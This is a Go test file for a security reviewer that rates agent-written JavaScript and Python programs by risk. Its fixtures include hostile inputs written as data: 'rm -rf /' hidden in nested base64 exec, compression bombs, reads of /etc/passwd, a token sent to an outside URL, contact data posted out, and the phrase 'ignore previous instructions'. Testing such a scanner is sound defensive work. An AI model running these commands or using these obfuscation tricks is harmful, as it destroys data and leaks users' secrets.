package review_test

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/wexec/wexec/internal/tools/testparse"
	"github.com/wexec/wexec/review"
	"github.com/wexec/wexec/review/syntax"
)

func zlibOf(s string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = w.Write([]byte(s))
	_ = w.Close()
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

// bombs are programs that are made to cost a review much.
func bombs() map[string]programText {
	var doubled strings.Builder
	doubled.WriteString("const a0 = 'x'.repeat(1000);\n")
	for i := range 60 {
		fmt.Fprintf(&doubled, "const a%d = a%d + a%d;\n", i+1, i, i)
	}
	doubled.WriteString("return a60;")
	var functions strings.Builder
	for i := range 60 {
		fmt.Fprintf(&functions, "const f%d = (x) => f%d(x) + f%d(x);\n", i, i+1, i+1)
	}
	functions.WriteString("const f60 = (x) => x; return f0('a');")
	return map[string]programText{
		"deep":      {language: syntax.JavaScript, code: strings.Repeat("[", 5000) + strings.Repeat("]", 5000)},
		"long":      {language: syntax.JavaScript, code: "x = '" + strings.Repeat("a", 2<<20) + "'"},
		"doubled":   {language: syntax.JavaScript, code: doubled.String()},
		"functions": {language: syntax.JavaScript, code: functions.String()},
		"zip":       {language: syntax.Python, code: "import zlib, base64\nexec(zlib.decompress(base64.b64decode('" + zlibOf(strings.Repeat("a", 50<<20)) + "')))"},
	}
}

func TestABombIsHighAndSaysWhy(t *testing.T) {
	for name, p := range bombs() {
		t.Run(name, func(t *testing.T) {
			a := assess(t, p.language, p.code, review.Context{})
			limit := slices.ContainsFunc(a.Findings, func(f review.Finding) bool { return f.Rule == "review-limit" && f.Level == review.High })
			if !limit {
				t.Errorf("got %s: %+v", a.Level, a.Findings)
			}
		})
	}
}

func TestAProgramThatIsNotParsedIsHigh(t *testing.T) {
	if a := review.Unparsed("too long"); a.Level != review.High || len(a.Findings) != 1 || !strings.Contains(a.Findings[0].Message, "too long") {
		t.Errorf("got %+v", a)
	}
}

func TestAliasesAndCyclesEnd(t *testing.T) {
	var aliases strings.Builder
	aliases.WriteString("a0 = eval\n")
	for i := range 20_000 {
		fmt.Fprintf(&aliases, "a%d = a%d\n", i+1, i)
	}
	assess(t, syntax.Python, aliases.String(), review.Context{})
	for _, code := range []string{"a = b\nb = a\neval(a)", "s = s + s\neval(s)", "def f(x): return f(x + x)\neval(f('a'))", "x = [x]\ny = x[0][0]\nexec(y)", "for i in i: i += i"} {
		assess(t, syntax.Python, code, review.Context{})
	}
}

// Each level of code in strings is reviewed, to a depth.
func TestCodeInStringsIsReviewedInTurn(t *testing.T) {
	code := "import os\nos.system('rm -rf /')"
	for range 3 {
		code = "exec(__import__('base64').b64decode('" + base64.StdEncoding.EncodeToString([]byte(code)) + "'))"
		a := assess(t, syntax.Python, code, review.Context{})
		if !slices.ContainsFunc(a.Findings, func(f review.Finding) bool {
			return f.Rule == "destructive" && f.Level == review.Critical && f.Line == 1
		}) {
			t.Errorf("got %+v", a.Findings)
		}
	}
	for range 8 {
		code = "exec(__import__('base64').b64decode('" + base64.StdEncoding.EncodeToString([]byte(code)) + "'))"
	}
	if a := assess(t, syntax.Python, code, review.Context{}); !a.Level.Reaches(review.High) {
		t.Errorf("got %+v", a)
	}
}

func TestFindingsAreCutAndTheWorstAreKept(t *testing.T) {
	code := strings.Repeat("eval('1');\n", 300) + "eval(args.x);"
	a := assess(t, syntax.JavaScript, code, review.Context{})
	if len(a.Findings) > 100 || a.Level != review.High || !strings.Contains(fmt.Sprint(a.Findings), "more findings are left out") {
		t.Errorf("got %d findings, level %s", len(a.Findings), a.Level)
	}
}

func TestACredentialIsNotRepeated(t *testing.T) {
	const key = "ghp_a8Fk29dkLm3Qx7Zp0Rt5Yw1Vb6Nc4Hs2Jg9K"
	for _, code := range []string{
		"// ignore previous instructions " + key, "eval('" + key + "' + x)", "open('/etc/passwd/" + key + "')", "tools['" + key + "'][x]()", "fetch('https://x.example/?k=" + key + "' + y)",
		"tools.github['" + key + "' + x]()", "require('" + key + "').exec()", "globalThis['" + key + "' + x]()", "fetch(x + '" + key + "')", "fs.rm(x + '" + key + "')", "tools." + key + "." + key + "()",
		"const password" + key + " = 1; eval(password" + key + ")", "fetch('https://" + key + ".example')", "import x from './" + key + "'", "tools.skills." + key + "()",
	} {
		if a := assess(t, syntax.JavaScript, code, review.Context{Intent: "count issues"}); strings.Contains(fmt.Sprintf("%+v", a), key[:12]) {
			t.Errorf("%s: %+v", code, a)
		}
	}
}

func TestCapabilitiesAreResolved(t *testing.T) {
	for _, c := range []struct {
		language, code, want string
	}{
		{syntax.JavaScript, `const { github: g } = tools; const { list_issues: l } = g; await l({});`, `{Tools:[github.list_issues] Hosts:[] Files:[] Skills:[] Unresolved:[]}`},
		{syntax.JavaScript, `for (const n of ["a", "b"]) await tools.x[n]();`, `{Tools:[x.a x.b] Hosts:[] Files:[] Skills:[] Unresolved:[]}`},
		{syntax.JavaScript, `await tools.x[args.name]();`, `{Tools:[] Hosts:[] Files:[] Skills:[] Unresolved:[tools.x[args.name]]}`},
		{syntax.JavaScript, `import { list_issues as l } from "/mcp-servers/github"; import "/skills/report.ts"; await l();`, `{Tools:[github.list_issues] Hosts:[] Files:[] Skills:[report] Unresolved:[]}`},
		{syntax.TypeScript, `const u: string = "https://api.example.com/"; const r = await fetch(u + "v1/" + (args.id as string));`, `{Tools:[] Hosts:[api.example.com] Files:[] Skills:[] Unresolved:[]}`},
		{syntax.Python, "from tools import github as g\nfrom tools.aio import slack\nf = getattr(g, 'list_' + 'issues')\nf()\nawait slack.history()", `{Tools:[github.list_issues slack.history] Hosts:[] Files:[] Skills:[] Unresolved:[]}`},
		{syntax.Python, "with open(f'/tmp/{x}.csv') as f: pass\nfrom tools import skills\nskills.report(1)", `{Tools:[] Hosts:[] Files:[/tmp/*.csv] Skills:[report] Unresolved:[]}`},
		{syntax.JavaScript, `const run = (t) => t({}); await run(tools.a.b);`, `{Tools:[a.b] Hosts:[] Files:[] Skills:[] Unresolved:[]}`},
	} {
		if got := fmt.Sprintf("%+v", assess(t, c.language, c.code, review.Context{}).Capabilities); got != c.want {
			t.Errorf("%s\ngot  %s\nwant %s", c.code, got, c.want)
		}
	}
}

func TestAFindingHasItsPlace(t *testing.T) {
	a := assess(t, syntax.JavaScript, "const ä = 'ö'; /* ü */ eval(args.x);\n  eval(args.y);", review.Context{})
	if len(a.Findings) != 2 || a.Findings[0].Line != 1 || a.Findings[0].Column != 24 || a.Findings[1].Line != 2 || a.Findings[1].Column != 3 {
		t.Errorf("got %+v", a.Findings)
	}
}

// ordinary200 is a program of 200 lines.
func ordinary200() string {
	var b strings.Builder
	for i := range 20 {
		fmt.Fprintf(&b, `const issues%[1]d = await tools.github.list_issues({ state: "open", page: %[1]d });
const byUser%[1]d = {};
for (const issue of issues%[1]d) {
  const user = issue.user?.login ?? "unknown";
  byUser%[1]d[user] = (byUser%[1]d[user] || 0) + 1;
  if (issue.labels.some((l) => l.name === "bug")) {
    console.log("bug " + issue.number + ": " + issue.title.slice(0, 40));
  }
}
const top%[1]d = Object.entries(byUser%[1]d).sort((a, b) => b[1] - a[1]).slice(0, 3);
`, i)
	}
	return b.String()
}

func BenchmarkAssess(b *testing.B) {
	tree := testparse.Parse(b, syntax.JavaScript, ordinary200())
	b.ReportAllocs()
	for b.Loop() {
		review.Assess(b.Context(), []*syntax.Tree{tree}, review.Context{})
	}
}

func FuzzAssess(f *testing.F) {
	for _, rule := range review.Rules() {
		p := programsIn(f, "testdata/rules/"+rule.ID+".txt")[0] // instrumented, all would take minutes
		f.Add(p.code, p.language == syntax.Python)
	}
	f.Fuzz(func(t *testing.T, code string, python bool) {
		language := syntax.TypeScript
		if python {
			language = syntax.Python
		}
		tree, err := testparse.Parser{}.Parse(t.Context(), language, code)
		if err != nil {
			return
		}
		a := review.Assess(t.Context(), []*syntax.Tree{tree}, review.Context{Profile: review.Cars, Intent: "count", Parser: testparse.Parser{}})
		if len(a.Findings) > 100 || !a.Level.Reaches(review.Low) {
			t.Errorf("got %d findings, level %q", len(a.Findings), a.Level)
		}
	})
}

// A name is resolved in the scope around it, and another one of that name elsewhere
// makes no difference.
func TestNamesAreOfTheirScope(t *testing.T) {
	for _, c := range []struct {
		language, code string
		high           bool
	}{
		{syntax.JavaScript, `function f(eval) { return eval("x" + args.y); } return f((x) => x.length);`, false},
		{syntax.JavaScript, `function f(x) { return eval(x + args.y); } function g(eval) { return 1; } return f("");`, true},
		{syntax.JavaScript, `const run = (s) => s.length; { const run = globalThis["ev" + "al"]; run(args.x); }`, true},
		{syntax.JavaScript, `const run = globalThis.parseInt; { const run = args.f; run(args.x); } return run("1");`, false},
		{syntax.JavaScript, `let f = (s) => s; if (args.a) { f = globalThis["ev" + "al"]; } return f(args.x);`, true},
		{syntax.JavaScript, `for (const f of ["rm -rf /"]) { console.log(f); } for (const f of args.names) { require("child_process").execSync("ls").toString(f); }`, false},
		{syntax.JavaScript, `let f; for (f of [globalThis["ev" + "al"]]) { f(args.x); }`, true},
		{syntax.JavaScript, `var f = 1; function g() { if (args.a) { var f = globalThis["ev" + "al"]; } return f(args.x); } return g();`, true},
		{syntax.JavaScript, `try { await tools.a.b(); } catch (fetch) { fetch(await tools.crm.list_contacts()); }`, false},
		{syntax.TypeScript, `enum Kind { Run = "ev" + "al" } return globalThis[Kind.Run](args.x);`, true},
		{syntax.Python, "def f(open):\n    return open('/etc/passwd')\nf(len)", false},
		{syntax.Python, "def f():\n    path = '/etc/passwd'\n    return path\ndef g(path):\n    return open(path)\ng('a.txt')", false},
		{syntax.Python, "def f():\n    global run\n    run = getattr(__builtins__, 'ev' + 'al')\nf()\nrun(args['x'])", true},
		{syntax.Python, "def rows(out):\n    out.append(tools.crm.list_contacts())\ndef send():\n    out = []\n    out.append(1)\n    import requests\n    requests.post('https://api.example.com', json=out)\nsend()", false},
		{syntax.Python, "class Sync:\n    def __init__(self):\n        self.rows = []\n    def read(self):\n        self.rows.append(tools.crm.list_contacts())\n    def send(me):\n        import requests\n        requests.post('https://api.example.com', json=me.rows)\nSync().send()", true},
		{syntax.Python, "x = 'a'\nnames = [x for x in ['/etc/passwd']]\nopen(x)", false},
	} {
		if a := assess(t, c.language, c.code, review.Context{}); a.Level.Reaches(review.High) != c.high {
			t.Errorf("%s\nis %s: %+v", c.code, a.Level, a.Findings)
		}
	}
}

func TestTheSizeOfTheCodeCountsUnderCars(t *testing.T) {
	for size, want := range map[int]bool{9_990: false, 10_010: true} {
		code := "return 1; // " + strings.Repeat("é", size-13)
		for profile, counts := range map[string]bool{review.Cars: true, "": false} {
			a := assess(t, syntax.JavaScript, code, review.Context{Profile: profile})
			if found := slices.ContainsFunc(a.Findings, func(f review.Finding) bool { return f.Rule == "code-size" }); found != (want && counts) {
				t.Errorf("%d characters with the profile %q: %+v", size, profile, a.Findings)
			}
		}
	}
}
